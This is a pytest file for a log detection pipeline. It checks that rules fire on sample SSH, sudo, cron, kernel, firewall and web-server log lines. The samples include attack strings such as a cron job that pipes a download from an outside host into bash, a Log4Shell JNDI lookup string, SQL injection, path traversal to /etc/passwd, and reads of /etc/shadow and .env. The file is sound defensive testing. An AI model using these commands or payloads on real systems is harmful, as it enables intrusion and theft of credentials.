"""Log lines as machines write them, through the decoders, to the rules of ours that must fire."""

from collections import Counter
from datetime import UTC, datetime
from pathlib import Path

import pytest

from collectors.decoders import Hints, decode
from detectors.sigma import RuleSet

RULES = RuleSet.load(Path(__file__).parents[2] / "rules")
RECEIVED = datetime(2026, 11, 24, 5, 20, tzinfo=UTC)
HEADER = "Nov 24 05:17:44 srv01 "
WEB = '203.0.113.5 - - [24/Nov/2026:05:17:44 +0700] "{} HTTP/1.1" {} 512 "-" "{}"'


def stems(line: str) -> set[str]:
    """The rules that fire on a line, by the name of their file."""
    event = decode(line, Hints(syslog=line.startswith(HEADER)), RECEIVED)
    return {Path(rule.path).stem for rule in RULES.evaluate(event) if rule not in RULES.silent}


@pytest.mark.parametrize(
    ("line", "fires"),
    [
        (
            "sshd[24200]: Accepted password for root from 203.0.113.9 port 50022 ssh2",
            {"ssh_root_login_accepted"},
        ),
        ("sshd[24200]: Accepted publickey for lan from 10.1.2.3 port 50022 ssh2", set()),
        (
            "sshd[24200]: reverse mapping checking getaddrinfo for ns.example.com [203.0.113.31] "
            "failed - POSSIBLE BREAK-IN ATTEMPT!",
            set(),
        ),
        (
            "sudo:  huy : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/huy ; USER=root ; "
            "COMMAND=/usr/bin/cat /etc/shadow",
            {"sudo_not_in_sudoers"},
        ),
        (
            "sudo:  huy : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
            {"sudo_wrong_password"},
        ),
        (
            "useradd[31]: new user: name=sys, UID=0, GID=0, home=/root, shell=/bin/bash, from=none",
            {"user_created", "user_with_uid_zero"},
        ),
        ("usermod[32]: add 'minh' to group 'sudo'", {"user_joins_admin_group"}),
        ("passwd[33]: pam_unix(passwd:chauthtok): password changed for root", {"root_password_changed"}),
        (
            "CRON[34]: (root) CMD (curl -fsSL http://203.0.113.7/i.sh | bash)",
            {"cron_downloads_and_runs"},
        ),
        ("CRON[34]: (root) CMD (/dev/shm/.kthread)", {"cron_runs_from_writable_folder"}),
        ("kernel: [ 12.1] device eth0 entered promiscuous mode", {"kernel_promiscuous_mode"}),
        (
            "kernel: [ 13.5] nginx[2201]: segfault at 0 ip 000055 sp 00007f error 4 in nginx[5+1]",
            {"network_service_crashed"},
        ),
        (
            "kernel: [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.9 DST=10.0.0.5 LEN=40 TTL=240 ID=1 "
            "PROTO=TCP SPT=40000 DPT=3389 WINDOW=1024 RES=0x00 SYN URGP=0",
            {"admin_port_from_outside"},
        ),
        (
            "kernel: [UFW BLOCK] IN=eth0 OUT= SRC=10.9.9.9 DST=10.0.0.5 LEN=40 TTL=240 ID=1 "
            "PROTO=TCP SPT=40000 DPT=3389 WINDOW=1024 RES=0x00 SYN URGP=0",
            set(),
        ),
        (
            "systemd[1]: Stopped auditd.service - Security Auditing Service.",
            {"security_service_stopped"},
        ),
    ],
)
def test_linux_lines(line: str, fires: set[str]) -> None:
    assert stems(HEADER + line) == fires


@pytest.mark.parametrize(
    ("request_line", "status", "agent", "fires"),
    [
        ("GET /tin?id=1%20UNION%20SELECT%201,2", 200, "sqlmap/1.8", {"sql_injection", "scanner_user_agent"}),
        ("POST /uploads/2026/a.php", 200, "Mozilla", {"script_in_upload_folder"}),
        ("GET /.env", 200, "curl", {"secret_file_read"}),
        ("GET /.env", 404, "curl", set()),
        ("GET /", 200, "${jndi:ldap://203.0.113.2/a}", {"log4shell"}),
        ("GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd", 404, "curl", {"path_traversal"}),
        ("GET /tin-tuc/thong-bao?trang=2", 200, "Mozilla", set()),
    ],
)
def test_web_lines(request_line: str, status: int, agent: str, fires: set[str]) -> None:
    assert stems(WEB.format(request_line, status, agent)) == fires


def test_device_lines() -> None:
    line = "CEF:0|Trend Micro|Deep Security|20|4000000|Trojan.Win32.Agent|8|src=10.0.0.1 act=block"
    assert stems(line) == {"device_reports_malware"}


def test_real_ssh_log_alerts_on_the_few_lines_that_deserve_it(shared_data: Path) -> None:
    log = shared_data / "logs" / "OpenSSH" / "OpenSSH_2k.log"
    counts: Counter[str] = Counter()
    for line in log.read_text(encoding="utf-8").splitlines():
        event = decode(line, Hints(syslog=True), RECEIVED)
        counts.update(Path(rule.path).stem for rule in RULES.evaluate(event) if rule not in RULES.silent)
    assert counts == {"ssh_many_failures_one_connection": 11}
